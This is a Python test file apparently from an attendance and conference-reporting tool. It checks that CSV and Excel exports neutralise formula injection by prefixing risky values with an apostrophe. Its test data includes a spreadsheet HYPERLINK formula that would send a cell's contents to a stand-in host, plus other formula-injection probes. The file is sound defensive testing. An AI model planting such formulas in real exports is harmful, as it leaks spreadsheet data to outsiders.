"""Issue 14, finding 1: names and reasons that a spreadsheet would evaluate reach the
reconciliation and make-up exports as text, never as live formulas."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl

from attendance.formulas import csv_text
from tests.helpers import person, site, write_roster, write_sites

LINK = '=HYPERLINK("http://x/?"&A2,"Bấm")'
SITE_NAME, UNIT, FULL_NAME = LINK, "@SUM(1+1)", "+1-2"
REASON = "-2+3 người đến muộn"
START = datetime.now(UTC).replace(microsecond=0) - timedelta(days=1)


def _world(cli, db: str, tmp_path: Path) -> None:
    sites = [site("F1", site_name=SITE_NAME)]
    people = [person("F1", f"P{n}", full_name=FULL_NAME, unit=UNIT) for n in range(3)]
    for args in (
        ("sites", "import", write_sites(tmp_path / "sites.csv", sites)),
        ("roster", "import", write_roster(tmp_path / "roster.csv", people)),
        ("conference", "create", "HN", "--name", "Hội nghị"),
        ("session", "create", "S1", "--conference", "HN", "--cadence", "60",
         "--start", START.isoformat(), "--end", (START + timedelta(hours=1)).isoformat()),
        ("correct", "--site", "F1", "--session", "HN/S1", "--value", "2",
         "--reason", REASON, "--by", "@hoa"),
    ):  # fmt: skip
        done = cli(*args, "--db", db)
        assert done.code == 0, done.err


def _xlsx_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_exports_write_formula_like_text_as_text(cli, db, tmp_path: Path):
    _world(cli, db, tmp_path)
    out = {name: tmp_path / name for name in ("r.csv", "r.xlsx", "m.xlsx")}
    done = cli("reconcile", "--session", "HN/S1", "--csv", out["r.csv"], "--xlsx", out["r.xlsx"],
               "--db", db)  # fmt: skip
    assert done.code == 0, done.err
    made = cli("makeup", "--conference", "HN", "--xlsx", out["m.xlsx"], "--db", db)
    assert made.code == 0, made.err

    header, row = list(csv.reader(out["r.csv"].open(encoding="utf-8-sig")))
    cells = dict(zip(header, row, strict=True))
    assert cells["Tên điểm cầu"] == "'" + SITE_NAME
    assert cells["Lý do hiệu chỉnh"] == "'" + REASON
    assert cells["Người hiệu chỉnh"] == "'@hoa"
    assert cells["Số hiệu chỉnh"] == "2.0" and cells["Số đăng ký"] == "3"  # numbers unquoted

    for path, expected in ((out["r.xlsx"], {SITE_NAME, REASON, "@hoa"}),
                           (out["m.xlsx"], {UNIT, FULL_NAME})):  # fmt: skip
        cells = _xlsx_cells(path)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], path
        assert expected <= {cell.value for cell in cells}, path
    assert [csv_text(v) for v in ("\t=1", "\r=1", "a=1")] == ["'\t=1", "'\r=1", "a=1"]
    assert csv_text(-3) == -3 and csv_text(-0.5) == -0.5  # a negative number is no formula
